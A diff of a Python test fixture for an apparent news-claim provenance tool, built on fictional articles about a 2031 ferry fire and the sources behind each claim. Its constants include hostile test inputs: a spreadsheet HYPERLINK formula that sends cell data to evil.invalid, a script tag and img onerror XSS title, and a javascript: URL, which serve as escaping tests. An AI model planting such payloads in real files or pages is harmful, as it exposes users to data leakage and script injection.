@@ -2,8 +2,8 @@
 
 from __future__ import annotations
 
-import json
 from dataclasses import dataclass, field
+from pathlib import Path
 from typing import Any
 
 import pandas as pd
@@ -31,6 +31,7 @@ from xref.tables import (
 )
 from xref.values import Quantity, to_json
 
+_PAPERS = Path(__file__).parent / "papers"
 HOSTILE_OUTLET = '=HYPERLINK("http://evil.invalid/?"&A1,"Daily <b>Bold</b>")'
 HOSTILE_TITLE = '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">'
 HOSTILE_QUOTE = (
@@ -47,8 +48,12 @@ class Paper:
     outlet: str
     published: str
     title: str
-    text: str
     url: str = ""
+
+    @property
+    def text(self) -> str:
+        name = self.key.replace("/", "-").rsplit(".", 1)[0]
+        return (_PAPERS / f"{name}.txt").read_text(encoding="utf-8")
 
 
 @dataclass(frozen=True)
@@ -89,68 +94,57 @@ def people(low: float, text: str, measure: str, quote: str) -> Quantity:
 
 PAPERS = (
     Paper(
-        "wire-0700.txt", "Coast Wire", "2031-05-03T07:05:00Z", "Fire aboard ferry off Port Maren, deaths feared",
-        "Fire aboard ferry off Port Maren, deaths feared\n\nPORT MAREN (Coast Wire) - A fire broke out aboard the ferry Halvard "
-        "shortly after it left Port Maren on Saturday morning. The fire started in the engine room, an official who was not "
-        "allowed to speak to the press said. Harbour master Ilse Brandvik said 22 people were missing.\n\n"
-        "The Halvard sailed at 6:40 a.m. with 212 people on board, according to the passenger list.\n",
+        "wire-0700.txt",
+        "Coast Wire",
+        "2031-05-03T07:05:00Z",
+        "Fire aboard ferry off Port Maren, deaths feared",
         "https://coastwire.invalid/2031/05/03/halvard",
     ),
     Paper(
-        "courier.html", "Maren Courier", "2031-05-03T09:30:00Z", "“We saw smoke before the second buoy”",
-        "“We saw smoke before the second buoy”\n\nOur reporter on the quay saw the Halvard cast off at twenty to seven. "
-        "Smoke was visible from the breakwater minutes later.\n\nAt least 14 people died, harbour master Ilse Brandvik told the "
-        "Courier. She said nine were still missing at nine o'clock.\n",
+        "courier.html",
+        "Maren Courier",
+        "2031-05-03T09:30:00Z",
+        "“We saw smoke before the second buoy”",
         "https://courier.invalid/halvard",
     ),
+    Paper("tidewater.md", "The Tidewater Post", "2031-05-03T10:15:00Z", "Fourteen dead in ferry fire", ""),
+    Paper("radio.txt", "Harbour Radio", "2031-05-03T11:00:00Z", "Union puts toll at 31", ""),
     Paper(
-        "tidewater.md", "The Tidewater Post", "2031-05-03T10:15:00Z", "Fourteen dead in ferry fire",
-        "Fourteen dead in ferry fire\n\nFourteen people died when fire swept the ferry Halvard, the harbour master said. "
-        "The blaze began in the engine room, Coast Wire reported, citing an official. It was the worst accident in the strait "
-        "in thirty years.\n",
-    ),
-    Paper(
-        "radio.txt", "Harbour Radio", "2031-05-03T11:00:00Z", "Union puts toll at 31",
-        "Union puts toll at 31\n\nThe seamen's union said 31 people had been killed. “They are counting only the bodies on the "
-        "quay,” said Tova Lindqvist, the union's spokeswoman. The fire started in the engine room, according to Coast Wire.\n\n"
-        "The port authority denied that the sprinklers had been switched off.\n",
-    ),
-    Paper(
-        "gazette.json", "North Quay Gazette", "2031-05-03", "Ferry fire: what we know",
-        "Ferry fire: what we know\n\nThe fire broke out in the engine room, an official told Coast Wire. The Halvard left Port "
-        "Maren at 6.40 a.m., a timetable seen by the Gazette shows. Sprinklers on the car deck had been switched off, two "
-        "crew members said.\n",
+        "gazette.json",
+        "North Quay Gazette",
+        "2031-05-03",
+        "Ferry fire: what we know",
         "https://gazette.invalid/ferry?id=7&x=<y>",
     ),
+    Paper("lantern.txt", "Daily Lantern", "2031-05-03T12:20:00Z", "Ferry fire began in engine room", ""),
     Paper(
-        "lantern.txt", "Daily Lantern", "2031-05-03T12:20:00Z", "Ferry fire began in engine room",
-        "Ferry fire began in engine room\n\nThe fire started in the engine room, an official who was not allowed to speak to the "
-        "press said. Captain Rolf Aune was praised by passengers.\n",
-    ),
-    Paper(
-        "strait/bold.txt", HOSTILE_OUTLET, "", HOSTILE_TITLE,
-        f"{HOSTILE_TITLE}\n\n{HOSTILE_QUOTE} The word {LONG_WORD} was painted on the hull.\n\n- @ministry posted a photograph "
-        "of the burnt deck.\n",
+        "strait/bold.txt",
+        '=HYPERLINK("http://evil.invalid/?"&A1,"Daily <b>Bold</b>")',
+        "",
+        '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">',
         "javascript:alert(1)",
     ),
-    Paper(
-        "levy.txt", "Hill Country Times", "2031-05-10", "Council of Overfell raises water levy",
-        "Council of Overfell raises water levy\n\nThe council of Overfell voted 7 to 4 to raise the water levy by 3 per cent. "
-        "The levy will cost a household about 40 crowns a year, councillor Per Aasen said.\n",
-    ),
-)  # fmt: skip
+    Paper("levy.txt", "Hill Country Times", "2031-05-10", "Council of Overfell raises water levy", ""),
+)
 
 ROOTS = {
     "brandvik": Root(
-        "Ilse Brandvik", "speaker", True, "the same speaker, Ilse Brandvik, is quoted by all",
+        "Ilse Brandvik",
+        "speaker",
+        True,
+        "the same speaker, Ilse Brandvik, is quoted by all",
         {"The Tidewater Post": "The Tidewater Post ← Ilse Brandvik", "Maren Courier": "Maren Courier ← Ilse Brandvik"},
     ),
     "union": Root("Tova Lindqvist, seamen's union", "speaker", True, "nobody else quotes this speaker"),
-    "courier": Root("Maren Courier, own reporting", "outlet", True, "reported in the outlet's own voice, no text shared with others"),
+    "courier": Root(
+        "Maren Courier, own reporting", "outlet", True, "reported in the outlet's own voice, no text shared with others"
+    ),
     "list": Root("passenger list (not in this folder)", "document", False, "named as the source by one outlet"),
     "timetable": Root("timetable (not in this folder)", "document", False, "named as the source by one outlet"),
     "official": Root(
-        "unnamed official", "anonymous", True,
+        "unnamed official",
+        "anonymous",
+        True,
         "Coast Wire is credited by three outlets, and Daily Lantern shares 24 words in a row with it",
         {
             "The Tidewater Post": "The Tidewater Post ← Coast Wire ← unnamed official",
@@ -164,45 +158,204 @@ ROOTS = {
     "hill": Root("Hill Country Times, own reporting", "outlet", True, "own voice"),
     "aasen": Root("Per Aasen", "speaker", True, "nobody else quotes this speaker"),
     "courier2": Root("Maren Courier, own reporting", "outlet", True, "own voice"),
-}  # fmt: skip
+}
 
 SAID = (
-    Said("courier.html", "At least 14 people died", "C1", "P1", "brandvik", "Ilse Brandvik", "person", "harbour master", "told",
-         quantities=(people(14, "At least 14 people", "killed", "At least 14 people died"),)),
-    Said("tidewater.md", "Fourteen people died when fire swept the ferry Halvard", "C1", "P1", "brandvik", "Ilse Brandvik", "person",
-         "harbour master", "said", quantities=(people(14, "Fourteen people", "killed", "Fourteen people died"),)),
-    Said("radio.txt", "31 people had been killed", "C1", "P2", "union", "seamen's union", "organisation", "", "said",
-         quantities=(people(31, "31 people", "killed", "31 people had been killed"),)),
-    Said("wire-0700.txt", "22 people were missing", "C2", "P3", "brandvik", "Ilse Brandvik", "person", "harbour master", "said",
-         quantities=(people(22, "22 people", "missing", "22 people were missing"),)),
-    Said("courier.html", "nine were still missing at nine o'clock", "C2", "P4", "brandvik", "Ilse Brandvik", "person",
-         "harbour master", "said", quantities=(people(9, "nine", "missing", "nine were still missing"),)),
-    Said("wire-0700.txt", "The Halvard sailed at 6:40 a.m. with 212 people on board", "C3", "P5", "list", "passenger list", "document",
-         "", "according to"),
-    Said("courier.html", "Our reporter on the quay saw the Halvard cast off at twenty to seven.", "C3", "P5", "courier"),
-    Said("gazette.json", "The Halvard left Port Maren at 6.40 a.m.", "C3", "P5", "timetable", "timetable", "document", "", "shows"),
-    Said("wire-0700.txt", "The fire started in the engine room", "C4", "P6", "official", "", "anonymous",
-         "official who was not allowed to speak to the press", "said"),
-    Said("tidewater.md", "The blaze began in the engine room", "C4", "P6", "official", "", "anonymous", "official", "reported",
-         "Coast Wire"),
-    Said("gazette.json", "The fire broke out in the engine room", "C4", "P6", "official", "", "anonymous", "official", "told",
-         "Coast Wire"),
-    Said("radio.txt", "The fire started in the engine room", "C4", "P6", "official", "Coast Wire", "outlet", "", "according to",
-         "Coast Wire"),
-    Said("lantern.txt", "The fire started in the engine room", "C4", "P6", "official", "", "anonymous",
-         "official who was not allowed to speak to the press", "said"),
-    Said("gazette.json", "Sprinklers on the car deck had been switched off", "C5", "P7", "crew", "two crew members", "anonymous", "",
-         "said", stance="hedges"),
-    Said("radio.txt", "The port authority denied that the sprinklers had been switched off.", "C5", "P8", "authority", "port authority",
-         "organisation", "", "denied", stance="denies", statement="The sprinklers had not been switched off."),
+    Said(
+        "courier.html",
+        "At least 14 people died",
+        "C1",
+        "P1",
+        "brandvik",
+        "Ilse Brandvik",
+        "person",
+        "harbour master",
+        "told",
+        quantities=(people(14, "At least 14 people", "killed", "At least 14 people died"),),
+    ),
+    Said(
+        "tidewater.md",
+        "Fourteen people died when fire swept the ferry Halvard",
+        "C1",
+        "P1",
+        "brandvik",
+        "Ilse Brandvik",
+        "person",
+        "harbour master",
+        "said",
+        quantities=(people(14, "Fourteen people", "killed", "Fourteen people died"),),
+    ),
+    Said(
+        "radio.txt",
+        "31 people had been killed",
+        "C1",
+        "P2",
+        "union",
+        "seamen's union",
+        "organisation",
+        "",
+        "said",
+        quantities=(people(31, "31 people", "killed", "31 people had been killed"),),
+    ),
+    Said(
+        "wire-0700.txt",
+        "22 people were missing",
+        "C2",
+        "P3",
+        "brandvik",
+        "Ilse Brandvik",
+        "person",
+        "harbour master",
+        "said",
+        quantities=(people(22, "22 people", "missing", "22 people were missing"),),
+    ),
+    Said(
+        "courier.html",
+        "nine were still missing at nine o'clock",
+        "C2",
+        "P4",
+        "brandvik",
+        "Ilse Brandvik",
+        "person",
+        "harbour master",
+        "said",
+        quantities=(people(9, "nine", "missing", "nine were still missing"),),
+    ),
+    Said(
+        "wire-0700.txt",
+        "The Halvard sailed at 6:40 a.m. with 212 people on board",
+        "C3",
+        "P5",
+        "list",
+        "passenger list",
+        "document",
+        "",
+        "according to",
+    ),
+    Said(
+        "courier.html", "Our reporter on the quay saw the Halvard cast off at twenty to seven.", "C3", "P5", "courier"
+    ),
+    Said(
+        "gazette.json",
+        "The Halvard left Port Maren at 6.40 a.m.",
+        "C3",
+        "P5",
+        "timetable",
+        "timetable",
+        "document",
+        "",
+        "shows",
+    ),
+    Said(
+        "wire-0700.txt",
+        "The fire started in the engine room",
+        "C4",
+        "P6",
+        "official",
+        "",
+        "anonymous",
+        "official who was not allowed to speak to the press",
+        "said",
+    ),
+    Said(
+        "tidewater.md",
+        "The blaze began in the engine room",
+        "C4",
+        "P6",
+        "official",
+        "",
+        "anonymous",
+        "official",
+        "reported",
+        "Coast Wire",
+    ),
+    Said(
+        "gazette.json",
+        "The fire broke out in the engine room",
+        "C4",
+        "P6",
+        "official",
+        "",
+        "anonymous",
+        "official",
+        "told",
+        "Coast Wire",
+    ),
+    Said(
+        "radio.txt",
+        "The fire started in the engine room",
+        "C4",
+        "P6",
+        "official",
+        "Coast Wire",
+        "outlet",
+        "",
+        "according to",
+        "Coast Wire",
+    ),
+    Said(
+        "lantern.txt",
+        "The fire started in the engine room",
+        "C4",
+        "P6",
+        "official",
+        "",
+        "anonymous",
+        "official who was not allowed to speak to the press",
+        "said",
+    ),
+    Said(
+        "gazette.json",
+        "Sprinklers on the car deck had been switched off",
+        "C5",
+        "P7",
+        "crew",
+        "two crew members",
+        "anonymous",
+        "",
+        "said",
+        stance="hedges",
+    ),
+    Said(
+        "radio.txt",
+        "The port authority denied that the sprinklers had been switched off.",
+        "C5",
+        "P8",
+        "authority",
+        "port authority",
+        "organisation",
+        "",
+        "denied",
+        stance="denies",
+        statement="The sprinklers had not been switched off.",
+    ),
     Said("tidewater.md", "It was the worst accident in the strait in thirty years.", "C6", "P9", "courier2"),
     Said("strait/bold.txt", HOSTILE_QUOTE, "C7", "P10", "bold", "<i>spokesman</i>", "person", "", "said"),
     Said("strait/bold.txt", f"The word {LONG_WORD} was painted on the hull.", "C8", "P11", "bold"),
-    Said("strait/bold.txt", "- @ministry posted a photograph of the burnt deck.", "C9", "P12", "bold", "@ministry", "social"),
-    Said("levy.txt", "The council of Overfell voted 7 to 4 to raise the water levy by 3 per cent.", "C10", "P13", "hill"),
-    Said("levy.txt", "The levy will cost a household about 40 crowns a year", "C11", "P14", "aasen", "Per Aasen", "person",
-         "councillor", "said"),
-)  # fmt: skip
+    Said(
+        "strait/bold.txt",
+        "- @ministry posted a photograph of the burnt deck.",
+        "C9",
+        "P12",
+        "bold",
+        "@ministry",
+        "social",
+    ),
+    Said(
+        "levy.txt", "The council of Overfell voted 7 to 4 to raise the water levy by 3 per cent.", "C10", "P13", "hill"
+    ),
+    Said(
+        "levy.txt",
+        "The levy will cost a household about 40 crowns a year",
+        "C11",
+        "P14",
+        "aasen",
+        "Per Aasen",
+        "person",
+        "councillor",
+        "said",
+    ),
+)
 
 CLUSTERS = {
     "C1": ("How many people were killed in the Halvard fire?", "disputed", "medium", "low", 4),
@@ -281,11 +434,16 @@ SKIPPED: list[dict[str, Any]] = [
 ]
 COPIES: list[dict[str, Any]] = [
     {
-        "path_a": "lantern.txt", "path_b": "wire-0700.txt", "kind": "partial", "containment_a_in_b": 0.62,
-        "containment_b_in_a": 0.31, "wire": "Coast Wire", "earlier": "wire-0700.txt",
+        "path_a": "lantern.txt",
+        "path_b": "wire-0700.txt",
+        "kind": "partial",
+        "containment_a_in_b": 0.62,
+        "containment_b_in_a": 0.31,
+        "wire": "Coast Wire",
+        "earlier": "wire-0700.txt",
         "evidence": "The fire started in the engine room, an official who was not allowed to speak to the press said",
     }
-]  # fmt: skip
+]
 CITED = (
     ("tidewater.md", "Coast Wire", "agency", True, "Coast Wire reported, citing an official"),
     ("gazette.json", "Coast Wire", "agency", True, "an official told Coast Wire"),
@@ -295,11 +453,16 @@ CITED = (
 )
 FINDINGS: list[dict[str, Any]] = [
     {
-        "kind": "misquotation", "subject": "The Tidewater Post",
+        "kind": "misquotation",
+        "subject": "The Tidewater Post",
         "detail": "The Tidewater Post turns “at least 14 people died” (Maren Courier) into “fourteen people died”.",
     },
-    {"kind": "missing-origin", "subject": "passenger list", "detail": "One claim goes back to a passenger list that is not in this folder."},
-]  # fmt: skip
+    {
+        "kind": "missing-origin",
+        "subject": "passenger list",
+        "detail": "One claim goes back to a passenger list that is not in this folder.",
+    },
+]
 
 
 def _source(name: str, kind: str, claims: int, **more: Any) -> dict[str, Any]:
@@ -317,10 +480,39 @@ def _source(name: str, kind: str, claims: int, **more: Any) -> dict[str, Any]:
 
 
 SOURCES = [
-    _source("Maren Courier", "outlet", 14, corroborated=9, disputed=1, echoed=2, single_origin=2, reliability=0.86, low=0.71, high=0.95,
-            enough_data=True, first_reports=2, own_voice=6, source_reliability="B", median_lead_hours=1.5),
-    _source("Coast Wire", "outlet", 12, corroborated=5, disputed=2, echoed=4, single_origin=1, reliability=0.71, low=0.52, high=0.88,
-            enough_data=True, first_reports=3, anonymous_share=0.25, own_voice=2),
+    _source(
+        "Maren Courier",
+        "outlet",
+        14,
+        corroborated=9,
+        disputed=1,
+        echoed=2,
+        single_origin=2,
+        reliability=0.86,
+        low=0.71,
+        high=0.95,
+        enough_data=True,
+        first_reports=2,
+        own_voice=6,
+        source_reliability="B",
+        median_lead_hours=1.5,
+    ),
+    _source(
+        "Coast Wire",
+        "outlet",
+        12,
+        corroborated=5,
+        disputed=2,
+        echoed=4,
+        single_origin=1,
+        reliability=0.71,
+        low=0.52,
+        high=0.88,
+        enough_data=True,
+        first_reports=3,
+        anonymous_share=0.25,
+        own_voice=2,
+    ),
     _source("The Tidewater Post", "outlet", 3, copied_share=0.0, relayed_share=0.33, misquotations=1),
     _source("Harbour Radio", "outlet", 3),
     _source("North Quay Gazette", "outlet", 3, anonymous_share=0.67),
@@ -329,7 +521,7 @@ SOURCES = [
     _source("Hill Country Times", "outlet", 2),
     _source("Ilse Brandvik", "speaker", 4, disputed=2, articles=3, single_origin=0),
     _source("<i>spokesman</i>", "speaker", 1),
-]  # fmt: skip
+]
 
 
 def _table(model: Any, rows: list[dict[str, Any]]) -> pd.DataFrame:
@@ -338,10 +530,20 @@ def _table(model: Any, rows: list[dict[str, Any]]) -> pd.DataFrame:
 
 def _article(paper: Paper, article_id: str) -> dict[str, Any]:
     return {
-        "article_id": article_id, "path": paper.key, "outlet": paper.outlet, "title": paper.title, "authors": "",
-        "published": paper.published, "url": paper.url, "language": "en", "words": len(paper.text.split()),
-        "sha256": article_id.removeprefix("a") * 8, "text": paper.text, "utc_offset": "", "outlet_from": "metadata",
-    }  # fmt: skip
+        "article_id": article_id,
+        "path": paper.key,
+        "outlet": paper.outlet,
+        "title": paper.title,
+        "authors": "",
+        "published": paper.published,
+        "url": paper.url,
+        "language": "en",
+        "words": len(paper.text.split()),
+        "sha256": article_id.removeprefix("a") * 8,
+        "text": paper.text,
+        "utc_offset": "",
+        "outlet_from": "metadata",
+    }
 
 
 def _block(paper: Paper, article_id: str) -> dict[str, Any]:
@@ -366,14 +568,33 @@ def _claim(said: Said, paper: Paper, article_id: str) -> dict[str, Any]:
     start = paper.text.index(said.quote)
     end = start + len(said.quote)
     return {
-        "claim_id": f"{article_id}-{start}-{end}", "article_id": article_id, "path": paper.key, "outlet": paper.outlet,
-        "start": start, "end": end, "quote": said.quote, "statement": said.statement or said.quote,
-        "voice": "attributed" if said.kind else "outlet", "speaker": said.speaker, "speaker_kind": said.kind,
-        "speaker_role": said.role, "cue": said.cue, "relayed_from": said.relayed, "informant": "",
-        "stance_of_speaker": said.stance, "quantities": to_json(said.quantities), "names": "[]", "roles": "[]",
-        "negated": said.stance == "denies", "headline": False, "event_from": "2031-05-03", "event_to": "2031-05-03",
-        "published": paper.published, "date_text": "", "sentence": 0,
-    }  # fmt: skip
+        "claim_id": f"{article_id}-{start}-{end}",
+        "article_id": article_id,
+        "path": paper.key,
+        "outlet": paper.outlet,
+        "start": start,
+        "end": end,
+        "quote": said.quote,
+        "statement": said.statement or said.quote,
+        "voice": "attributed" if said.kind else "outlet",
+        "speaker": said.speaker,
+        "speaker_kind": said.kind,
+        "speaker_role": said.role,
+        "cue": said.cue,
+        "relayed_from": said.relayed,
+        "informant": "",
+        "stance_of_speaker": said.stance,
+        "quantities": to_json(said.quantities),
+        "names": "[]",
+        "roles": "[]",
+        "negated": said.stance == "denies",
+        "headline": False,
+        "event_from": "2031-05-03",
+        "event_to": "2031-05-03",
+        "published": paper.published,
+        "date_text": "",
+        "sentence": 0,
+    }
 
 
 def _origin(claim: dict[str, Any], said: Said) -> dict[str, Any]:
@@ -382,9 +603,14 @@ def _origin(claim: dict[str, Any], said: Said) -> dict[str, Any]:
         claim["outlet"], f"{claim['outlet']} ← {root.name}" if root.kind != "outlet" else claim["outlet"]
     )
     return {
-        "claim_id": claim["claim_id"], "origin_id": f"o-{said.origin}", "origin": root.name, "origin_kind": root.kind,
-        "in_corpus": root.here, "chain": chain, "reason": root.reason,
-    }  # fmt: skip
+        "claim_id": claim["claim_id"],
+        "origin_id": f"o-{said.origin}",
+        "origin": root.name,
+        "origin_kind": root.kind,
+        "in_corpus": root.here,
+        "chain": chain,
+        "reason": root.reason,
+    }
 
 
 def _ends(judged: tuple[Any, ...], claims: list[dict[str, Any]]) -> dict[str, str]:
@@ -418,9 +644,12 @@ def _support(said: list[Said]) -> dict[str, Any]:
     dated = sorted((papers[s.paper].published, papers[s.paper].outlet) for s in said if papers[s.paper].published)
     first = dated[0] if dated else ("", "")
     return {
-        "articles": len({s.paper for s in said}), "outlets": len(outlets), "origins": len({s.origin for s in said}),
-        "first_outlet": first[1], "first_published": first[0],
-    }  # fmt: skip
+        "articles": len({s.paper for s in said}),
+        "outlets": len(outlets),
+        "origins": len({s.origin for s in said}),
+        "first_outlet": first[1],
+        "first_published": first[0],
+    }
 
 
 def _positions() -> list[dict[str, Any]]:
@@ -443,12 +672,13 @@ def _cluster(key: str) -> dict[str, Any]:
     topic, status, evidence, agreement, credibility = CLUSTERS[key]
     said = [s for s in SAID if s.cluster == key]
     return {
-        "cluster_id": key, "story_id": "s2" if key in ("C10", "C11") else "s1", "question_or_topic": topic, "status": status,
-        "positions": len({s.position for s in said}), "evidence": evidence, "agreement": agreement,
-        "information_credibility": credibility, **_support(said),
-    }  # fmt: skip
-
-
-def as_json(frame: pd.DataFrame) -> str:
-    """A table as JSON text, for comparing."""
-    return json.dumps(frame.to_dict("records"), default=str)
+        "cluster_id": key,
+        "story_id": "s2" if key in ("C10", "C11") else "s1",
+        "question_or_topic": topic,
+        "status": status,
+        "positions": len({s.position for s in said}),
+        "evidence": evidence,
+        "agreement": agreement,
+        "information_credibility": credibility,
+        **_support(said),
+    }
